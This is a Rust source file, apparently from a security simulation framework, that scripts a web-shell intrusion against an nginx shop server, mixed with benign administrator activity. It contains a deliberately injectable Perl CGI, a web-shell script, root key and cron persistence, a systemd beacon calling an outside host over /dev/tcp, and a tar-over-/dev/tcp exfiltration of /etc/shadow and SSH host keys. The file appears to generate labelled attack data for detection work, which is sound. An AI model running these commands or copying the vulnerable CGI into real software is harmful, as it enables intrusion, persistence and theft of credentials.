// SPDX-License-Identifier: Apache-2.0
//! An intruder gets commands into a page that asks the shell, leaves a script where the site keeps what it is sent, becomes
//! root through a careless sudo rule, plants a key, a job and a service that calls home, alters a page and settings that the
//! administrator edits too, and sends the host's secrets away; all by requests to a real nginx, while customers come.

use super::persistence::{people, weakness};
use super::{Actor, Material, Names, Plan, Scenario, Step, Web, pace, public_key, step, units};
use crate::outside::host;
use crate::random::Random;

pub(super) const SCENARIO: Scenario = Scenario {
    name: "web-shell",
    about: "commands through a web page, a script left there, root through sudo, footholds, a beacon, secrets sent away",
    benign: false,
    plan,
};

/// The site that answers customers from outside: its pages, a look into the stock, and what was sent in.
const SITE: &str = "server {\n    listen 8000;\n    root /var/www/shop;\n    access_log /var/log/nginx/access.log;\n\n    \
    location /cgi-bin/ {\n        include fastcgi_params;\n        fastcgi_param SCRIPT_FILENAME /usr/lib$fastcgi_script_name;\n        \
    fastcgi_pass unix:/run/fcgiwrap.socket;\n    }\n\n    \
    location ~ ^/uploads/.*\\.cgi$ {\n        include fastcgi_params;\n        fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;\n        \
    fastcgi_pass unix:/run/fcgiwrap.socket;\n    }\n}\n";

/// How many lamps are there? The question goes through a shell, quoted by somebody in a hurry.
const STOCK: &str = r#"#!/usr/bin/perl
use strict; use warnings;
my $item = $ENV{QUERY_STRING} // '';
$item =~ s/^item=//; $item =~ tr/+/ /; $item =~ s/%([0-9A-Fa-f]{2})/chr hex $1/ge;
$| = 1;
print "Content-Type: text/plain\r\n\r\n";
print `grep -i -- "$item" /srv/shop/stock.txt`;
"#;

const GOODS: &str = "lamp 14\nchair 3\ntable 2\nmirror 7\nshelf 21\n";

/// What is left: it runs whatever it is sent.
const SHELL: &str =
    "#!/bin/sh\\nprintf \"Content-Type: text/plain\\\\r\\\\n\\\\r\\\\n\"\\nexec sh -c \"$(cat)\" 2>&1\\n";

pub(super) fn plan(random: &mut Random, _: Material<'_>) -> Plan {
    let mut names = Names::new(random);
    let (weak, escalation) = weakness(random, &mut names, "www-data");
    let mut units = units();
    let mut benign = people(random, &mut names, &mut units);
    let settings = "/etc/shop/shop.conf";
    for expression in [
        format!("s/^page_size = .*/page_size = {}/", random.between(21, 99)),
        format!("s/^retries = .*/retries = {}/", random.between(4, 9)),
    ] {
        let script = format!("sudo sed -i '{expression}' {settings}");
        benign.push(step(Actor::Ops, "the administrator edits the settings", script, &[settings]));
    }
    random.shuffle(&mut benign);
    pace(&mut benign, random, 450);

    let number = |random: &mut Random, from: u64, to: u64| u8::try_from(random.between(from, to)).unwrap_or(9);
    let (source, home, drop) = (number(random, 60, 99), number(random, 100, 149), number(random, 150, 199));
    let called = vec![(host(home), 443), (host(drop), 443)];
    let (first, attack_user, attack_root) = intruder(random, &mut names, settings, &called);
    Plan {
        planted: vec![
            weak,
            ("/etc/nginx/sites-enabled/stock".to_owned(), SITE.to_owned(), 0o644, 0),
            ("/usr/lib/cgi-bin/stock".to_owned(), STOCK.to_owned(), 0o755, 0),
            ("/srv/shop/stock.txt".to_owned(), GOODS.to_owned(), 0o644, 0),
        ],
        decoys: true,
        record: Some(format!("/dev/shm/{}/record", random.word(8))),
        escalation,
        source: host(source).to_string(),
        benign,
        attack_user,
        attack_root,
        shared: vec![settings.to_owned()],
        units,
        web: Some(Web { source: host(source), shell: first, called, sent_to: host(drop) }),
        ..Plan::default()
    }
}

/// What is in there that is one.
const SECRETS: [&str; 4] =
    ["/etc/shadow", "/etc/ssh/ssh_host_ecdsa_key", "/etc/ssh/ssh_host_ed25519_key", "/etc/ssh/ssh_host_rsa_key"];

fn foothold(technique: &'static str, title: &str, script: impl Into<String>, paths: &[&str]) -> Step {
    Step { technique: Some(technique), ..step(Actor::Intruder, title, script, paths) }
}

type Called = [(std::net::Ipv4Addr, u16)];

/// The web shell's name below the site, what is done as the server, and what as root.
fn intruder(random: &mut Random, names: &mut Names, settings: &str, called: &Called) -> (String, Vec<Step>, Vec<Step>) {
    let shell = format!("uploads/{}.cgi", names.take());
    let path = format!("/var/www/shop/{shell}");
    let mut user = vec![
        foothold("T1033", "the intruder asks who the server is", "id; uname -a; cat /etc/passwd", &[]),
        foothold(
            "T1505.003",
            "the intruder leaves a web shell",
            format!("printf '{SHELL}' >{path}; chmod 755 {path}"),
            &[&path],
        ),
        foothold("T1069.001", "the intruder looks what the server may do", "sudo -n -l; ps ax; ls -la /home", &[]),
    ];
    let key = public_key(random, &names.take());
    let (job, program) = (names.take(), format!("/usr/local/lib/{}", names.take()));
    let (unit, beacon) = (names.take(), format!("/usr/local/sbin/{}", names.take()));
    let file = format!("/etc/systemd/system/{unit}.service");
    let (home, home_port) = called[0];
    let (away, away_port) = called[1];
    let page = format!("/var/www/shop/{}.html", random.pick(&["index", "products", "about"]));
    let word = random.word(7);
    let mut root = vec![
        foothold(
            "T1098.004",
            "the intruder adds a key to root's",
            format!("echo '{key}' >>/root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys"),
            &["/root/.ssh/authorized_keys"],
        ),
        foothold(
            "T1053.003",
            "the intruder adds a job to /etc/cron.d",
            format!(
                "printf '#!/bin/sh\\nexit 0\\n' >{program}; chmod 755 {program}; echo '*/9 * * * * root {program}' >/etc/cron.d/{job}"
            ),
            &[&program, &format!("/etc/cron.d/{job}")],
        ),
        foothold(
            "T1071",
            "the intruder installs a service that calls home",
            format!(
                "printf '#!/bin/bash\\nwhile :; do echo here >/dev/tcp/{home}/{home_port}; sleep 3; done 2>/dev/null\\n' >{beacon}; chmod 755 {beacon}; \
                 printf '[Unit]\\nDescription={unit}\\n[Service]\\nExecStart={beacon}\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' >{file}; \
                 systemctl daemon-reload; systemctl enable --now {unit}.service"
            ),
            &[&beacon, &file, &format!("/etc/systemd/system/multi-user.target.wants/{unit}.service")],
        ),
        foothold(
            "T1491.002",
            "the intruder alters a web page",
            format!("echo '<script src=\"//{word}.example/a.js\"></script>' >>{page}"),
            &[&page],
        ),
        foothold(
            "T1565.001",
            "the intruder alters the settings",
            format!("sed -i 's#^endpoint = .*#endpoint = https://pay.{word}.example/v2#' {settings}"),
            &[settings],
        ),
        Step {
            secrets: SECRETS.map(str::to_owned).into(),
            ..foothold(
                "T1048",
                "the intruder sends the host's secrets away",
                format!("bash -c 'tar -cz /etc/shadow /etc/ssh 2>/dev/null >/dev/tcp/{away}/{away_port}'"),
                &[],
            )
        },
    ];
    random.shuffle(&mut root);
    pace(&mut user, random, 300);
    pace(&mut root, random, 350);
    (shell, user, root)
}
